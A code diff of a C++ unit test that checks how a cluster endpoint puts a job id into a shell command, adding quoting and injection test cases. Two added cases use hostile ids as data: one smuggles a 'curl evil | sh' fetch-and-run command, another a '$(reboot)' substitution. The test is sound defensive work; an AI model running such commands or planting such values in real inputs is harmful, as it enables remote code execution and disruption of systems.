@@ -25,9 +25,13 @@ TEST(ClusterEndpoint, TheJobCommandNamesTheJobWhereverItSaysJob)
         {"run {job} --log {job}.log", "j7", "run j7 --log j7.log"},
         {"sleep 600", "j7", "sleep 600"},
         {"", "j7", ""},
-        // An id that itself says "{job}" is put in once, not again and again.
-        {"run {job}", "a{job}b", "run a{job}b"},
-        {"{job}{job}", "{job}", "{job}{job}"},
+        // An id that itself says "{job}" is put in once, not again and again (quoted: braces).
+        {"run {job}", "a{job}b", "run 'a{job}b'"},
+        {"{job}{job}", "{job}", "'{job}''{job}'"},
+        // The command runs through sh: a hostile id stays one argument.
+        {"/opt/run {job}", "x; curl evil | sh", "/opt/run 'x; curl evil | sh'"},
+        {"/opt/run {job}", "it's $(reboot)", "/opt/run 'it'\\''s $(reboot)'"},
+        {"/opt/run {job}", "", "/opt/run ''"},
     };
     for (const Case& c : cases)
         EXPECT_EQ(endpointWith(c.command).commandFor(c.jobId), c.expected) << c.command << " / " << c.jobId;
